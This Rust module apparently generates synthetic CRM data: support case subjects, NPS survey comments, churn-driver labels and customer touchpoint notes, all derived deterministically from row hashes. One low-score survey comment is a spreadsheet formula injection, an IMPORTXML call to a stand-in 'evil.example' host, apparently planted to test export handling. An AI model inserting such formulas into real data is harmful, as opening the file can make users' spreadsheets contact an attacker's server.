//! Words that are made when they are read: subjects, notes, comments. They follow from the row, so they are the same
//! every time.

use super::rng::hash;
use super::types::{Driver, TouchKind, World};

pub(super) const CASE_SUBJECTS: [&str; 24] = [
    "Export job fails with a timeout",
    "Users cannot sign in through SSO",
    "Dashboard shows yesterday's numbers",
    "API returns 500 on bulk update",
    "Duplicate notifications after the upgrade",
    "Report totals differ from the list",
    "Cannot add more than 50 users",
    "Webhook deliveries are delayed",
    "Wrong currency on the invoice",
    "Mobile app closes on start",
    "Search misses new records",
    "Import rejects valid dates",
    "Permission denied for administrators",
    "Slow page load since Monday",
    "Request: bulk edit of owners",
    "How do we archive old projects?",
    "Data missing after sync",
    "Sandbox refresh stuck",
    "Emails land in spam",
    "Audit log incomplete",
    "Integration with CRM stopped",
    "License count is wrong",
    "Time zone shifts due dates",
    "Attachment upload fails",
];

pub(super) const SURVEY_COMMENTS: [[&str; 6]; 3] = [
    [
        "Support takes days to answer and the same bug came back twice.",
        "We pay more every year and use less of it.",
        "Nobody has spoken to us since the kickoff.",
        "Too slow for our team, people went back to spreadsheets.",
        "",
        "=IMPORTXML(\"http://evil.example\",\"//a\")",
    ],
    [
        "Good product, onboarding of new people is hard.",
        "Does what it should. Reports could be better.",
        "",
        "Fine.",
        "Works, but the mobile app needs love.",
        "Es ist in Ordnung, mehr aber auch nicht.",
    ],
    [
        "Our CSM is the reason we stay.",
        "Saves each of us an hour a day ❤️",
        "Best rollout we ever had.",
        "",
        "とても使いやすいです。",
        "Rock solid, thank you!",
    ],
];

impl Driver {
    /// The name of the reason as people pick it.
    pub fn label(self) -> &'static str {
        match self {
            Driver::LowAdoption => "Low Adoption",
            Driver::ValueNotMet => "Value Not Met",
            Driver::ProductDefect => "Product Defect",
            Driver::Unresponsive => "Unresponsive",
            Driver::SponsorChange => "Sponsor Change",
            Driver::Budget => "Budget",
            Driver::Competitor => "Competitor",
            Driver::Merger => "Merger or Acquisition",
        }
    }
}

impl World {
    /// What a case is about.
    pub fn case_subject(&self, case: u32) -> &'static str {
        self.cases.get(case as usize).map_or("", |row| {
            CASE_SUBJECTS[row.subject as usize % CASE_SUBJECTS.len()]
        })
    }

    /// What the customer wrote under the score; may be empty.
    pub fn survey_comment(&self, survey: u32) -> &'static str {
        let Some(row) = self.surveys.get(survey as usize) else {
            return "";
        };
        let mood = match row.score {
            0..=6 => 0,
            7..=8 => 1,
            _ => 2,
        };
        SURVEY_COMMENTS[mood][row.comment as usize % 6]
    }

    /// The subject line of a touchpoint.
    pub fn touch_subject(&self, touchpoint: u32) -> String {
        let Some(row) = self.touchpoints.get(touchpoint as usize) else {
            return String::new();
        };
        let topic = [
            "adoption plan",
            "renewal",
            "open tickets",
            "roadmap",
            "training",
            "new use case",
            "success plan",
            "executive alignment",
        ][(hash(u64::from(touchpoint)) % 8) as usize];
        match row.kind {
            TouchKind::Call => format!("Call: {topic}"),
            TouchKind::Meeting => format!("Meeting on {topic}"),
            TouchKind::Email => format!("Email about {topic}"),
            TouchKind::Update => format!("Update: {topic}"),
            TouchKind::Review => "Quarterly business review".to_owned(),
        }
    }

    /// The notes of a touchpoint, one to three sentences.
    pub fn touch_notes(&self, touchpoint: u32) -> String {
        let Some(row) = self.touchpoints.get(touchpoint as usize) else {
            return String::new();
        };
        let pick = |list: &[&'static str], salt: u64| {
            list[(hash(u64::from(touchpoint) ^ salt << 40) % list.len() as u64) as usize]
        };
        let opening = match row.mood {
            -1 => pick(
                &[
                    "Tense conversation about open tickets.",
                    "Sponsor did not join, team is unsure about value.",
                    "They asked for our termination terms.",
                    "Usage is falling in two departments.",
                ],
                1,
            ),
            0 => pick(
                &[
                    "Walked through the plan for the quarter.",
                    "Routine check-in.",
                    "Reviewed the open questions from last time.",
                    "Shared release notes and answered questions.",
                ],
                2,
            ),
            _ => pick(
                &[
                    "Very positive, they want to add a second team.",
                    "Champion presented our results to the board.",
                    "Happy with the new reports.",
                    "Reference call agreed.",
                ],
                3,
            ),
        };
        let next = pick(
            &[
                "Next step: send the summary.",
                "Next step: schedule training.",
                "Follow up in two weeks.",
                "",
                "Next step: involve the product manager.",
                "Agreed to meet again before the renewal.",
            ],
            4,
        );
        format!("{opening} {next}").trim_end().to_owned()
    }

    /// How long it took, in minutes (0 for mails and updates).
    pub fn touch_minutes(&self, touchpoint: u32) -> u32 {
        match self
            .touchpoints
            .get(touchpoint as usize)
            .map(|row| row.kind)
        {
            Some(TouchKind::Call) => 15 + (hash(u64::from(touchpoint)) % 3) as u32 * 15,
            Some(TouchKind::Meeting) => 30 + (hash(u64::from(touchpoint)) % 2) as u32 * 30,
            Some(TouchKind::Review) => 60,
            _ => 0,
        }
    }
}
